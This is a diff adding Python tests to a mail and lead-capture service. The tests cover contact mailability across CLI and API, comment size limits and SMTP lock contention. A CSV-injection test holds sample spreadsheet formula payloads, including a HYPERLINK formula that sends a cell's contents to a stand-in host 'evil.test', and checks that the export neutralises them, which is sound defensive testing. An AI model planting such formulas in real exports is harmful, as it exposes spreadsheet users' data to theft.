@@ -16,6 +16,7 @@ import sqlalchemy as sa
 
 from feedback_mta.actions import CLI, unit_of_work
 from feedback_mta.store.models import Event, IdempotencyKey, Lead
+from tests.cli import run
 from tests.conftest import write_config
 from tests.test_cli import ok_json, ok_rows
 
@@ -365,3 +366,189 @@ def test_idempotency_keys_are_forgotten_after_a_day(engine):
         assert list(conn.execute(sa.select(CommentBand.__table__.c.sender)).scalars()) == [
             "new"]
         assert list(conn.execute(sa.select(ReviewLink.__table__.c.email)).scalars()) == ["new"]
+
+
+# Every state a contact can be in, and what "mailable" must say of it everywhere.
+MAILABILITY = {
+    "active": (True, None),
+    "unsubscribe": (False, "unsubscribe"),
+    "complaint": (False, "complaint"),
+    "invalid_contact": (False, "invalid_contact"),
+    "suspected_invalid": (False, "suspected_invalid"),
+    "manual": (False, "manual"),
+    "bounced": (False, "bounced"),
+    "bounced, then unsubscribed": (False, "unsubscribe"),
+    "unsubscribed, then bounced": (False, "unsubscribe"),
+    # Awaiting confirmation (the consent status): not mailable either.
+    "pending": (False, "pending"),
+    "bounced, made deliverable again": (True, None),
+}
+
+
+def _contact_in(api, state: str, n: int) -> int:
+    with unit_of_work(api.engine, CLI) as uow:
+        contact, _ = uow.contacts.add(api.account, f"c{n}@people.test", "Ann", "Lee")
+        for step in state.split(", "):
+            if step in ("bounced", "then bounced"):
+                uow.contacts.mark_undeliverable(contact, "hard bounce: 5.1.1 userunknown")
+            elif step == "made deliverable again":
+                uow.contacts.mark_deliverable(contact)
+            elif step in ("unsubscribed", "then unsubscribed"):
+                uow.contacts.opt_out(contact, "unsubscribe")
+            elif step not in ("active", "pending"):
+                uow.contacts.opt_out(contact, step)
+        contact_id = contact.id
+    if state == "pending":
+        with api.engine.begin() as conn:
+            conn.execute(sa.text("UPDATE contact SET status = 'pending' WHERE id = :id"),
+                         {"id": contact_id})
+    return contact_id
+
+
+def test_mailable_means_the_same_in_show_list_api_and_the_suppressions(api):
+    """One meaning: mail may be sent. ``contact show``, ``contact list --mailable``,
+    ``GET /v1/contacts/{id}`` and ``/v1/suppressions`` (JSON and CSV) agree on every
+    state, and the reason says why."""
+    ids = {state: _contact_in(api, state, n) for n, state in enumerate(MAILABILITY)}
+    names = {contact_id: state for state, contact_id in ids.items()}
+    expected = {ids[state]: want for state, want in MAILABILITY.items()}
+
+    # Whether mail may be sent, first: the four places agree.
+    mailable = {i: want[0] for i, want in expected.items()}
+    assert {c["id"] for c in ok_rows(api.path, "contact", "list", "--mailable", "true")} == {
+        i for i, yes in mailable.items() if yes}
+    assert {s["contact_id"]: s["mailable"] for s in api.client.get(
+        "/v1/suppressions").json()["suppressions"]} == {
+        i: yes for i, yes in mailable.items() if not yes}
+
+    shown = {i: ok_json(api.path, "contact", "show", str(i)) for i in ids.values()}
+    assert {i: (c["mailable"], c["not_mailable_reason"]) for i, c in shown.items()} == expected
+    over_http = {i: api.client.get(f"/v1/contacts/{i}").json() for i in ids.values()}
+    assert {i: (c["mailable"], c["not_mailable_reason"])
+            for i, c in over_http.items()} == expected
+
+    listed = {flag: {c["id"]: (c["mailable"], c["not_mailable_reason"]) for c in ok_rows(
+        api.path, "contact", "list", "--account", str(api.account), "--mailable", flag)}
+        for flag in ("true", "false")}
+    assert {names[i] for i in listed["true"]} == {"active", "bounced, made deliverable again"}
+    assert listed["true"] | listed["false"] == expected
+
+    page = api.client.get("/v1/suppressions").json()["suppressions"]
+    suppressed = {s["contact_id"]: (s["mailable"], s["reason"]) for s in page}
+    assert suppressed == {i: want for i, want in expected.items() if not want[0]}
+    bounced = {names[s["contact_id"]] for s in page if s["bounced"]}
+    assert bounced == {"bounced", "bounced, then unsubscribed", "unsubscribed, then bounced"}
+
+    import csv
+    import io
+    table = list(csv.DictReader(io.StringIO(api.client.get(
+        "/v1/suppressions", headers={"Accept": "text/csv"}).text)))
+    assert {int(r["contact_id"]): (r["mailable"] == "true", r["reason"] or None)
+            for r in table} == suppressed
+
+
+FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1,"Open")', "+1+1", "-2+3", "@SUM(1+1)"]
+#: A leading tab or CR cannot reach a cell through what is stored (it is trimmed, and
+#: control characters within are refused, in addresses, names and reasons), but the rule
+#: holds for them too.
+UNSTORABLE = ["\t=1+1", "\r=1+1"]
+
+
+def test_no_csv_cell_can_start_a_formula(api):
+    """What a form submitter chose (an address, an opt-out reason) comes out of the
+    suppressions CSV behind a single quote when a spreadsheet would run it (OWASP); the
+    JSON keeps it as it came."""
+    lead = api.client.post("/v1/leads", json={**LEAD, "email": "=1+1@people.test"}).json()
+    api.client.post(f"/v1/contacts/{lead['contact_id']}/optout",
+                    json={"reason": FORMULAS[0]})
+    for n, formula in enumerate(FORMULAS[1:]):
+        contact = api.client.post("/v1/contacts", json={
+            "email": f"+{n}@people.test", "first": "Ann", "last": "Lee"}).json()
+        ok_json(api.path, "contact", "optout", str(contact["id"]), "--reason", formula)
+
+    import csv
+    import io
+    answer = api.client.get("/v1/suppressions", headers={"Accept": "text/csv"})
+    table = list(csv.reader(io.StringIO(answer.text, newline="")))
+    header, cells = table[0], [c for row in table[1:] for c in row]
+    assert len(table) == 1 + len(FORMULAS)
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    by_email = {row[header.index("email")]: row[header.index("reason")] for row in table[1:]}
+    assert by_email["'=1+1@people.test"] == "'" + FORMULAS[0]
+    assert sorted(by_email.values()) == sorted("'" + f for f in FORMULAS)
+    # The JSON is not for spreadsheets: the values as they came.
+    page = api.client.get("/v1/suppressions").json()["suppressions"]
+    assert sorted(s["reason"] for s in page) == sorted(FORMULAS)
+    from feedback_mta.queries.sheets import cell
+
+    assert [cell(f) for f in UNSTORABLE] == ["'" + f for f in UNSTORABLE]
+
+
+def test_every_csv_the_service_writes_goes_through_one_helper():
+    from pathlib import Path
+
+    import feedback_mta
+    root = Path(feedback_mta.__file__).parent
+    writers = {str(p.relative_to(root)) for p in root.rglob("*.py")
+               if "csv.writer(" in p.read_text() or "csv.DictWriter(" in p.read_text()}
+    assert writers == {"queries/sheets.py"}
+
+
+def test_lead_comments_past_the_limit_are_refused_by_the_api_and_lead_add(api):
+    """``[http] max_comment_bytes`` (16 KB), counted in UTF-8 bytes: one byte more is a
+    422 naming ``comments`` (``lead add``: exit 1, one line), and nothing is stored."""
+    limit = 16 * 1024
+    at_limit = "é" * (limit // 2)  # two bytes each: exactly the limit
+    taken = api.client.post("/v1/leads", json={**LEAD, "comments": at_limit})
+    assert taken.status_code == 201, taken.text
+    for comments in (at_limit + "x", "1" * 1_000_000):
+        body = _problem(api.client.post("/v1/leads", json={**LEAD, "email": "b@people.test",
+                                                            "comments": comments}), 422)
+        assert body["detail"].startswith("comments: longer than 16384 bytes")
+        assert body["errors"][0]["loc"] == ["body", "comments"]
+    refused = run(api.path, "lead", "add", "--account", str(api.account), "--email",
+                  "c@people.test", "--first", "Cy", "--last", "Ng", "--comments",
+                  "x" * (limit + 1))
+    assert refused.returncode == 1 and refused.stdout == ""
+    [line] = refused.stderr.strip().splitlines()
+    assert "comments: longer than 16384 bytes" in line
+    with api.engine.connect() as conn:
+        assert conn.execute(sa.select(sa.func.count()).select_from(Lead)).scalar() == 1
+
+
+def test_a_lead_s_scoring_holds_no_lock_an_smtp_message_waits_for(api, monkeypatch):
+    """Reading the comments (the part of scoring that grows with them) happens before the
+    lead's transaction: made to take 3 s here, an SMTP message sent meanwhile still gets
+    its 250 within 1 s (in the transaction, it waited for the lead's write lock)."""
+    import smtplib
+    import threading
+    import time
+
+    from feedback_mta.quality import campaigns
+    from tests.conftest import DOMAIN
+
+    reading, slow = threading.Event(), campaigns.bands
+
+    def bands(text):
+        reading.set()
+        time.sleep(3)
+        return slow(text)
+
+    monkeypatch.setattr(campaigns, "bands", bands)
+    answers: list[httpx.Response] = []
+    comments = "Is the blue sedan still available, and could I see it on Saturday morning?"
+    lead = threading.Thread(target=lambda: answers.append(api.client.post(
+        "/v1/leads", json={**LEAD, "comments": comments})))
+    lead.start()
+    try:
+        assert reading.wait(10)
+        started = time.monotonic()
+        client = smtplib.SMTP("127.0.0.1", api.server.port, timeout=30)
+        client.sendmail("someone@else.test", [f"postmaster@{DOMAIN}"],
+                        b"Subject: hi\r\n\r\nhello\r\n")
+        took = time.monotonic() - started
+        client.quit()
+    finally:
+        lead.join(30)
+    assert took < 1.0, took
+    assert answers[0].status_code == 201, answers[0].text
